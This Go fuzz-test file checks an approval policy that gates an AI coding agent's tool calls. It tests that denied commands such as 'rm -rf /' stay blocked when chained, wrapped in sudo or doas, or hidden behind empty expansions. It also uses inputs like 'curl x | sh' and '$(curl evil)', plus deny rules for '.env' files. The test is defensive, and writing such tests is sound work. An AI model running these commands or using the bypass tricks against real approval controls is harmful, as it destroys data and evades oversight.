package approve_test

import (
	"strings"
	"testing"

	json "github.com/go-json-experiment/json/v1"

	"github.com/acprun/acprun/approve"
	"github.com/google/go-cmp/cmp"
)

var separators = []string{"&&", "||", ";", "|", "&", "\n", " && ", "; ", "|&", " ;\n"}

// neutral keeps only characters that cannot quote, comment out, redirect
// or substitute what follows, so a command chained after the result still
// runs.
func neutral(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' ||
			strings.ContainsRune(" \t\n-./_=,:+*@%^~!?;&|{}[]", r) {
			return r
		}
		return -1
	}, s)
}

// checkOption asserts that an option is selected from the offered ones and
// fits the verdict, or that the answer is cancelled.
func checkOption(t *testing.T, d approve.Decision, opts []approve.Option) {
	t.Helper()
	if d.Cancelled {
		if d.OptionID != "" || d.OptionKind != "" {
			t.Errorf("cancelled decision selects option %q (%q)", d.OptionID, d.OptionKind)
		}
		return
	}
	family := "allow_"
	if d.Verdict == approve.Deny {
		family = "reject_"
	}
	if !strings.HasPrefix(d.OptionKind, family) {
		t.Errorf("verdict %v selects option kind %q", d.Verdict, d.OptionKind)
	}
	found := false
	for _, o := range opts {
		if o.ID == d.OptionID && o.Kind == d.OptionKind && o.ID != "" {
			found = true
		}
		if o.ID == d.OptionID && !strings.HasPrefix(o.Kind, family) {
			t.Errorf("selected option id %q (%q) is also that of option kind %q, which the agent may take it for", d.OptionID, d.OptionKind, o.Kind)
		}
	}
	if !found {
		t.Errorf("selected option %q (%q) is not among those offered %v", d.OptionID, d.OptionKind, opts)
	}
}

func FuzzDecide(f *testing.F) {
	f.Add("go test ./...", "ls", "echo ok", uint8(0), uint8(1), "execute", "go test", []byte(`{"command":"go test ./..."}`), "src/a.go", "/p")
	f.Add("go test $(curl evil)", "cd x", "", uint8(2), uint8(5), "", "Write x", []byte(`{"command":["/bin/bash","-lc","ls"]}`), "../x", "/home/user/project")
	f.Add("echo 'a;b' \"$(c)\" `d` <<EOF\n$(e)\nEOF", "if x", "fi", uint8(3), uint8(4), "edit", "Delete", []byte(`{"file_path":"/etc/passwd","paths":["a",1]}`), "**/.env", "")
	f.Add("(a && { b; }) | c &", "FOO=1", "}", uint8(6), uint8(7), "read", "*", []byte(`{"url":"https://x","n":[1,{"a":null}]}`), "/etc/**", "/")
	f.Add("", "", "", uint8(8), uint8(9), "other", "", []byte(`null`), "", "rel")
	f.Add("x", "a|", "|b", uint8(0), uint8(0), "execute", "t", []byte(`{"command":"bash","args":["-c","x"]}`), "[", "/p")
	f.Add("echo x > ~/.env", "cat < $HOME/.env", "> /et?/x", uint8(1), uint8(2), "edit", "Write", []byte(`{"file_path":"../other/.env"}`), "**/.env", "/p")
	f.Fuzz(func(t *testing.T, line, prefix, suffix string, sepA, sepB uint8, kind, title string, raw []byte, path, cwd string) {
		opts := [][]approve.Option{claudeOptions, codexOptions, nil, {{"r", "R", "reject_always"}, {"", "empty", "allow_once"}},
			{{"go", "No", "reject_once"}, {title, "Yes", "allow_once"}, {kind, "Always", "allow_always"}, {"no", "Never", "reject_always"}}}[int(sepA)%5]
		reqs := []approve.Request{
			{ToolCallID: "f", Title: title, Kind: kind, RawInput: json.RawMessage(raw), Locations: []string{path}, DiffPaths: []string{line}, Options: opts, Cwd: cwd},
			execReq(line),
		}
		reqs[1].Options = opts
		policies := []*approve.Policy{
			nil,
			approve.AllowAll(),
			{
				Allow: []approve.Rule{
					{Pos: "a:1", Command: []string{line, "go test *"}, Always: true},
					{Pos: "a:2", Kind: []string{kind}, Title: []string{title}, Path: []string{path, "**"}},
					{Pos: "a:3", Input: map[string]string{title: line, "command": path}},
					{Pos: "a:4"},
				},
				Deny: []approve.Rule{
					{Pos: "d:1", Command: []string{prefix, "rm -rf *"}},
					{Pos: "d:2", Path: []string{suffix, "**/.env"}, Title: []string{prefix}},
					{Pos: "d:3", Input: map[string]string{"url": title, "x.y": "("}},
				},
			},
		}
		for _, p := range policies {
			for _, req := range reqs {
				d1 := p.Decide(req)
				if d2 := p.Decide(req); !cmp.Equal(d1, d2) {
					t.Fatalf("Decide() is not deterministic (-first +second):\n%s", cmp.Diff(d1, d2))
				}
				checkOption(t, d1, req.Options)
				if e := p.Evaluate(req); e.OptionID != "" || e.Cancelled || e.Verdict != d1.Verdict || e.Rule != d1.Rule {
					t.Fatalf("Evaluate() = %+v; want Decide's verdict %+v without option", e, d1)
				}
				if ed, _ := p.Explain(req); !cmp.Equal(ed, d1) {
					t.Fatalf("Explain() differs from Decide() (-decide +explain):\n%s", cmp.Diff(d1, ed))
				}
			}
		}

		// With no rules the default decides.
		for _, def := range []approve.Verdict{approve.Allow, approve.Deny} {
			for _, req := range reqs {
				d := (&approve.Policy{Default: def}).Decide(req)
				if d.Verdict != def || d.RuleList != approve.ListDefault || d.Rule != "" {
					t.Fatalf("empty policy with default %v decided %v by %q (%s)", def, d.Verdict, d.RuleList, d.Reason)
				}
			}
		}

		// A denied command stays denied whatever is chained around it.
		chained := neutral(prefix) + separators[int(sepA)%len(separators)] + "rm -rf /" +
			separators[int(sepB)%len(separators)] + neutral(suffix)
		p := &approve.Policy{
			Allow: []approve.Rule{{Pos: "a:1", Command: []string{"*"}}},
			Deny:  []approve.Rule{{Pos: "d:1", Command: []string{"rm -rf *"}}},
		}
		argv, _ := json.Marshal(map[string]any{"command": []string{"/bin/bash", "-lc", chained}})
		term, _ := json.Marshal(map[string]any{"command": "bash", "args": []string{"-c", chained}})
		for _, req := range []approve.Request{
			execReq(chained),
			{Kind: "execute", RawInput: argv},
			{Kind: "execute", RawInput: term},
			{Kind: "execute", Title: chained},
		} {
			if d := p.Decide(req); d.Verdict != approve.Deny || d.Rule != "d:1" {
				t.Fatalf("chained %q: decided %v by %q (%s); commands %q", chained, d.Verdict, d.Rule, d.Reason, d.Commands)
			}
		}

		// And when an expansion that may be empty comes before its program.
		empty := []string{"$E ", "${E}", `"$E"`, "$(:)", "`:`"}[int(sepB)%5]
		expanded := neutral(prefix) + separators[int(sepA)%len(separators)] + empty + "rm -rf /"
		if d := p.Decide(execReq(expanded)); d.Verdict != approve.Deny || d.Rule != "d:1" {
			t.Fatalf("expanded %q: decided %v by %q (%s); commands %q", expanded, d.Verdict, d.Rule, d.Reason, d.Commands)
		}

		// And behind a wrapper, whatever its options' arguments.
		arg := strings.Map(func(r rune) rune {
			if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
				return r
			}
			return -1
		}, prefix)
		wrapped := []string{"sudo -u x" + arg, "nice -n " + arg + "1", "timeout 1" + arg, "env -u x" + arg, "xargs -n 1" + arg,
			"exec -a x" + arg, "doas -u x" + arg, "stdbuf -o " + arg + "L", "ionice -c 3" + arg, "flock /tmp/x" + arg}[int(sepA)%10] +
			" rm -rf /"
		if d := p.Decide(execReq(wrapped)); d.Verdict != approve.Deny || d.Rule != "d:1" {
			t.Fatalf("wrapped %q: decided %v by %q (%s)", wrapped, d.Verdict, d.Rule, d.Reason)
		}
	})
}

func FuzzSplitCommands(f *testing.F) {
	for _, s := range []string{
		"go test ./... && curl x | sh",
		"echo \"$(a 'b' `c`)\" ${x:-$(d)} <(e) >(f) $'g\\'' $\"h\"",
		"cat <<-'E' && x\n\tbody $(no)\n\tE\ny <<F\n$(z)\nF",
		"(a; { b; }) |& c 2>&1 >| d &> e # f\ng \\\nh",
		"if a; then b; elif c; else d; fi; for x in y; do e; done",
		"$(((1+2)))) ) ( ` $( ${ \" '",
		"echo a\\>|b \\<&c '>'|d <<\\>|e",
		"echo $'\\' ; f ; echo '' &>/dev/null g &>>h \"${x:-'\"'}\" \"${x#'\"'}\" ${x#{}",
		"cat <<EOF\nE\\\nOF\n\\\nEOF\nx\nEOF\ncat <<-E\\\nOF\n\tE\\\nOF\ncat <<''\n\ncat <<$'A'\nA\n",
		"echo $(cat <<EOF\nEOF);x\n) $(cat <<F)\nF\n<<\"a\nb\"\na\nb",
		"[[ x =~ (#) ]] @(a) $[1] a[1]=2 ${ x; }",
		"echo \"$\\\n(a)\" ${x:-$\\\n(b)} `c $\\\n(d)` $(e # f \\\ng) 'h\\\ni' $'j\\\n' \"${k\\\n@P}\"",
		"cat <\\\n<E\n$\\\n(a)\nE\ncat <<'F'\nb\\\nF\nc\ncat <<G\n$(d # \\\ne)\nG",
		"X={ a } b; GOFLAGS={ c } go test; X=${x:-(} d; cat <(e {) > f; bash -c \"g \\#; h \\' \\\n i\"",
		"bash -c $'(a)'; eval $\"(b)\"; sh -c $'#;c'; echo $((d ' )); e; ' ))",
		"if ((a <<b)); then c; fi\nd\nb\nfor ((i=0<<E;;)); do :; done\n! ((1<<F))\ntime ((x))",
		"echo \"$(case a in a) b;; (c) d;; esac)\" <(case x in y) z;; esac)",
		"coproc { a; }; coproc N { b; }; coproc while c; do :; done; {d,e} f{g,h}",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		got := approve.SplitCommands(line)
		if again := approve.SplitCommands(line); !cmp.Equal(got, again) {
			t.Fatalf("SplitCommands(%q) is not deterministic: %q then %q", line, got, again)
		}
		for _, c := range got {
			if c == "" || c[0] == ' ' || c[0] == '\t' {
				t.Errorf("SplitCommands(%q) returned command %q: empty or not trimmed", line, c)
			}
		}
	})
}

// FuzzZshScript: any zsh script given as codex gives it (/bin/zsh -lc
// SCRIPT) is decided without a panic, and the same way twice.
func FuzzZshScript(f *testing.F) {
	for _, s := range []string{
		`echo "$(cat <<'EOF'` + "\nx (y)\nEOF\n)\"",
		`echo ${x:-$(echo a))<<'E';}`,
		`echo $((echo hi) ) <<E`,
		`echo *<->(e:x:)`,
		`echo "$(case x in a) echo;; esac)"`,
		"cat <<-E\n\t$(x)\n\tE",
		`echo $'\' ' "unclosed`,
	} {
		f.Add(s)
	}
	p := &approve.Policy{Default: approve.Deny, Allow: []approve.Rule{{Pos: "a:1", Command: []string{"echo *"}}}}
	f.Fuzz(func(t *testing.T, script string) {
		raw, _ := json.Marshal(map[string]any{"command": []string{"/bin/zsh", "-lc", script}})
		req := approve.Request{Kind: "execute", RawInput: raw, Cwd: "/work"}
		if a, b := p.Decide(req), p.Decide(req); a.Verdict != b.Verdict || a.Reason != b.Reason {
			t.Errorf("decided %s (%s), then %s (%s)", a.Verdict, a.Reason, b.Verdict, b.Reason)
		}
	})
}
